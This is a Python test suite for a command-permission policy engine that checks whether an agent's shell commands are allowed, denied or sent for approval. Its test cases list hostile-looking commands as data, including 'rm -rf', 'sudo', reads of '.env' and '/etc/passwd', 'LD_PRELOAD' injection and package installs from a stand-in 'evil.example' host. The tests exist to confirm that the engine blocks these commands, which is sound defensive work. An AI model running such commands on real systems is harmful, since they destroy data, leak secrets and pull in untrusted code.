"""Words that no profile explains meet what restricts, in every reading; and nothing else does."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from policy_lang import Decision, Policy
from policy_lang.domain.limits import limit

RESTRICTED = Policy.loads(
    """
policy "restricted"
tier security { approvers "@security" }
allow run "**"
allow connect "**:*"
allow push, force-push, delete-ref, merge "*:**"
allow read, write, delete "./", "/**", "~/**"
allow setenv "**"
deny read ".env"
deny write, delete "src/"
deny run "rm **", "sudo **"
deny run "git add **" with "-A", "--all"
deny connect "**.evil.example:*"
deny push "main"
deny setenv "LD_*"
ask security write "auth/**"
"""
)


def decide(command: str, policy: Policy = RESTRICTED) -> Decision:
    return policy.decide(
        agent="codex", action="run", resource=command, workspace="/workspace", home="/home/agent", lexical=True
    )


@pytest.mark.parametrize(
    "command",
    [
        # any tail may be a command, with what it would do
        "acme rm x", "acme -n /tmp/lock rm -rf lib", "acme -- sudo ls", "acme a b c timeout 5 sudo ls", "acme sh -c 'rm x'", "acme --run=rm x",
        "acme git add -A", "acme exec . git add --all", "acme /usr/bin/rm x", "acme /opt/tools/rm x", "acme '!rm' x", "acme git push origin main",
        # so may a word that holds blanks
        "acme -c 'rm x'", "acme -c '!rm x'", "acme --prepare 'cat a | sudo tee b' ls", "acme -e'rm x'", "acme 'system(\"rm x\")'", "acme \"EXEC:'rm x'\"",
        # any word may be a file that is read, written, deleted, wherever it stands in the word
        "acme .env", "acme ./.env", "acme lib/../.env", "acme /workspace/.env", 'acme "$PWD/.env"', "acme --file=.env", "acme -f.env", "acme -xf.env", "acme @.env", "acme key:.env",
        "acme a,.env,b", "acme a=b=.env", "acme -F name=@.env", "acme .env:/x:ro", "acme .e*", "acme .{env,x}", "cd lib && acme ../.env", "acme '{\"file\": \".env\"}'", "acme -- .env",
        "acme src/a.ts", "acme -osrc/a.ts", "acme of=src/a.ts", "acme --dir src", "cd src && acme a.ts", "acme .git/hooks/pre-commit", "acme ~/.bashrc", "acme --rc=~/.bashrc",
        # or a host
        "acme evil.example", "acme a.evil.example:8080", "acme https://evil.example/x", "acme --host=evil.example", "acme me@evil.example", "acme me@evil.example:dir", "acme a,evil.example",
        "acme smtp://evil.example", "acme //evil.example/share", "acme tcp:evil.example:80",
        # or a branch, where the command speaks of pushing; or a variable that is set
        "acme push --to main", "acme git push -b main", "acme LD_PRELOAD=./x.so ls",
        # a program outside the known folders may be what its name says
        "/opt/homebrew/bin/rm x", "./rm x", "./node_modules/.bin/sudo ls", "/opt/git/bin/git add -A", "/usr/lib/git-core/git-push origin main", "/opt/x/cat .env", "/opt/x/bash -c 'rm x'",
        "cd lib; ../tools/rm x",
        # what is not known may be anything
        'acme "$X"', "acme sh -c 'eval \"$X\"'", "echo 'rm x' | acme sh", "acme '$(echo rm) x'",
    ],
)  # fmt: skip
def test_restrictions_hold_in_every_reading(command: str) -> None:
    decision = decide(command)
    assert decision.effect == "deny", [(e.action, e.resource, e.verdict.effect) for e in decision.effects]


@pytest.mark.parametrize(
    "command",
    [
        "acme", "acme build", "acme test lib/a.ts", "acme -m 'remove the source and push later'", "acme --out=dist/x", "acme push --to feature", "acme a.ts b.md", "acme lib:test",
        "acme fmt .", "acme 1.2.3 -j4", "acme node@22", "acme completion bash", "acme -m \"don't\"", "acme lint 'lib/**/*.ts'", "./gradlew build", "/opt/homebrew/bin/git add x",
        "acme https://api.example/x", "acme '{\"a\": [1, 2]}'", "acme LANG=C ls", "acme -D a=b,c", "acme main", "acme --workspaces",
    ],
)  # fmt: skip
def test_other_words_are_left_alone(command: str) -> None:
    decision = decide(command)
    assert decision.effect == "allow", decision.reasons
    assert not any(e.supposed for e in decision.effects)


def test_a_tier_is_asked_for_what_a_word_may_be() -> None:
    decision = decide("acme auth/login.ts")
    assert (decision.effect, decision.tiers) == ("ask", ("security",))
    assert [(e.action, e.resource) for e in decision.effects if e.supposed] == [("write", "auth/login.ts")]


def test_nothing_needs_a_grant_for_what_a_word_may_be() -> None:
    policy = Policy.loads('policy "p"\nallow run "acme **"\ndeny read ".env"\n')
    assert decide("acme rm lib/a.ts", policy).effect == "allow"
    assert decide("acme cat .env", policy).effect == "deny"


def test_too_many_words_or_parts_are_opaque() -> None:
    most = limit("supposed_words")
    assert decide("acme " + "x " * most).effect == "allow"
    assert "opaque" in decide("acme " + "x " * (most + 1)).reasons[0]
    most = limit("supposed_pieces")
    assert decide("acme " + ",".join(["x"] * most)).effect == "allow"
    assert "opaque" in decide("acme " + ",".join(["x"] * (most + 1))).reasons[0]


GRANTED = Policy.loads('policy "granted"\nallow run "acme **"\nallow read "./"\n')


@pytest.mark.parametrize(
    "command",
    [
        "acme /etc/passwd", "acme ~/x", 'acme "$HOME/x"', "acme ../other/x", "acme lib/../../x", "cd lib && acme ../../x", "acme --file=/etc/passwd",
        "acme -F name=@/etc/passwd", "acme /etc/passwd:/x:ro", "acme a,/etc/passwd", "acme file:///etc/passwd", "acme '/etc/my file'",
        "acme https://evil.example/x", "acme --url=https://evil.example", "acme smtp://evil.example", "acme me@evil.example", "acme me@host:path", "acme evil.com:8080", "acme 10.0.0.5",
        "acme '[2001:db8::1]:80'", "acme api.evil.io/x", "acme localhost:3000", "acme db:5432", "acme tcp:evil.com:80",
        "acme -- rm x", "acme exec rm x", "acme exec . rm x", "acme run -n base rm x", "acme run -- ./deploy.sh", "acme -- bash -c 'rm x'", "acme -c 'rm x'", "acme -c '!rm x'", "acme -c rm x",
        "acme --exec='rm x'", "acme exec other x", 'acme exec "$X"', "acme -c 'acme -- rm x'", "acme exec acme /etc/passwd",
    ],
)  # fmt: skip
def test_what_leads_out_needs_a_grant_of_its_own(command: str) -> None:
    assert decide(command, GRANTED).effect == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "acme", "acme -c acme.toml lint src", "acme run build", "acme run load.js", "acme run --select staging", "acme run test", "acme test a.py:12", "acme -- -std=c++20",
        "acme test -- tests/unit", "acme install node@22", "acme add @scope/pkg@1.2.3", "acme use react@latest", "acme fmt main.go app.module.ts", "acme image redis:7", "acme .", "acme src/../lib",
        "acme -m 'see https://docs.example and /etc/x'", "acme --ratio 16:9 --time 10:30", "acme /workspace/src/a", "acme -e .server.port", "acme s/a/b/", 'acme "$X"', "acme src/*.ts",
        "cd lib && acme ../src/a", "acme run acme lint", "acme //lib:all",
    ],
)  # fmt: skip
def test_words_that_stay_inside_do_not(command: str) -> None:
    decision = decide(command, GRANTED)
    assert decision.effect == "allow", decision.reasons


def test_grants_for_where_it_leads_are_enough() -> None:
    policy = Policy.loads(
        'policy "p"\nallow run "acme **", "rm **"\nallow read "/etc/hosts"\nallow delete "lib/**"\nallow connect "api.example"\n'
    )
    assert decide("acme --hosts=/etc/hosts --to https://api.example/x -- rm lib/a", policy).effect == "allow"
    assert decide("acme -- rm src/a", policy).effect == "deny"


GENERAL = Policy.loads(
    """
policy "general"
allow run "**"
allow read, write, delete "./"
allow connect "**:*"
deny run "**" except "acme **"
deny write, delete "**" except "out/**"
deny connect "**:*" except "api.example"
"""
)


@pytest.mark.parametrize(
    "command",
    [
        "acme build",
        "acme test main",
        "acme -m 'remove it'",
        "acme out/x",
        "acme --name x",
        "acme format.sh",
        "acme build 2",
    ],
)
def test_what_is_said_of_every_word_does_not_count(command: str) -> None:
    decision = decide(command, GENERAL)
    assert (decision.effect == "allow") is ("." not in command), decision.reasons


@pytest.mark.parametrize(
    "command", ["acme lib/x", "acme a.ts", "acme https://evil.example", "acme 10.1.2.3", "acme -- rm x"]
)
def test_what_is_said_of_files_and_hosts_does(command: str) -> None:
    assert decide(command, GENERAL).effect == "deny"


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("npm exec rm x", "deny"), ("uv pip install -i https://evil.example x", "deny"), ("cargo build", "allow"),
        ("npm run build -- src/a.ts", "allow"), ("cargo test rmdir", "allow"), ("npm test -- --watch", "allow"),
    ],
)  # fmt: skip
def test_operands_that_a_profile_says_nothing_of(command: str, effect: str) -> None:
    decision = decide(command)
    assert decision.effect == effect, decision.reasons


def test_an_unknown_folder_leaves_ordinary_words_alone() -> None:
    policy = Policy.loads('policy "p"\nallow run "acme **"\nallow read "./"\ndeny write "src/"\n')
    assert decide('cd "$ROOT" && acme build lib/a', policy).effect == "allow"


TIERED = """
policy "tiered"
tier review { approvers "@team" }
tier operations { approvers "@operations"  includes review }
tier security { approvers "@security"  includes operations }
allow run "**"
allow read, write, delete "./"
allow connect "**:*"
ask review run opaque
"""
ASKS = [
    'ask operations run "kubectl delete **" except opaque', 'ask operations run "kubectl delete **"', 'ask security run "kubectl delete pod **" except opaque',
    'ask operations read "auth/**"', 'ask security read "auth/keys"', 'ask security run "rm **" except opaque', 'deny run "kubectl delete ns **" except opaque', 'deny read "auth/private"',
    'ask security connect "x.example"', 'ask operations write "**"',
]  # fmt: skip
SPELLED = ["kubectl delete pod x", "kubectl delete ns x", "kubectl get pods", "cat auth/keys", "cat auth/private lib/a", "grep x auth/a", "timeout 5 rm auth/a",
           "curl https://x.example", "cp auth/keys lib/a", "nice cat auth/a"]  # fmt: skip
LEVEL = {(): 1, ("review",): 2, ("operations",): 3, ("security",): 4}


def level(decision: Decision) -> int:
    return {"allow": 0, "deny": 9}.get(decision.effect) or LEVEL[decision.tiers] * (decision.effect == "ask")


@given(
    rules=st.lists(st.sampled_from(ASKS), min_size=1, max_size=4, unique=True),
    command=st.sampled_from(SPELLED),
    place=st.integers(1, 3),
    option=st.sampled_from(["--unheard-of", "--unheard-of=v", "--unheard-of v", "--unheard-of v --other w"]),
)
def test_an_unknown_option_asks_no_weaker_tier(rules: list[str], command: str, place: int, option: str) -> None:
    policy = Policy.loads(TIERED + "\n".join(rules))
    words = command.split()
    spelled = " ".join([*words[:place], option, *words[place:]])
    assert level(decide(spelled, policy)) >= level(decide(command, policy)), spelled
